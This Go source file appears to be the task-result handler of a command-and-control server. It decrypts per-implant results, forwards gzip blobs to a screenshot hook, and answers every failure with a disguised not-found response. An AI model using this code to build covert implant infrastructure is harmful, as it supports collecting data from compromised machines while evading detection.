package handlers

import (
	"encoding/json"
	"net/http"

	"github.com/duskrelay/beaconsrv/envelope"
	"github.com/duskrelay/beaconsrv/reqauth"
	"github.com/duskrelay/beaconsrv/safeio"
	"github.com/duskrelay/beaconsrv/screenshot"
)

type resultPayload struct {
	GUID   string `json:"guid"`
	Result string `json:"result"` // base64 blob
}

// Result handles POST result_path: decrypts and stores a task result,
// invoking the screenshot hook when the decoded blob looks like a gzip
// stream (spec §4.8, scenario S5).
func Result(deps *Deps) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		res, rec, found := authenticate(r, deps)
		if !found {
			notFound(w)
			return
		}

		body, err := safeio.LimitedReadAll(r.Body, safeio.MaxResponseBody)
		if err != nil {
			notFound(w)
			return
		}
		var envReq envelopeRequest
		if err := json.Unmarshal(body, &envReq); err != nil {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.BadKey, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}

		plaintext, err := envelope.DecryptToBytes(envReq.Data, rec.EncryptionKey())
		if err != nil {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.BadKey, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}
		var payload resultPayload
		if err := json.Unmarshal(plaintext, &payload); err != nil || payload.GUID == "" {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.BadKey, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}

		processor := deps.Screenshot
		if processor == nil {
			processor = screenshot.Passthrough{}
		}
		if screenshot.LooksLikeGzip(payload.Result) {
			if err := processor.Process(r.Context(), rec.ID(), payload.GUID, payload.Result); err != nil {
				logStoreErr(r.Context(), "screenshot hook", err)
			}
		}

		rec.StoreResult(payload.GUID, payload.Result)

		if err := deps.Store.LogCheckin(r.Context(), rec.ID(), false, payload.Result); err != nil {
			logStoreErr(r.Context(), "log result", err)
		}

		ok(w)
	}
}
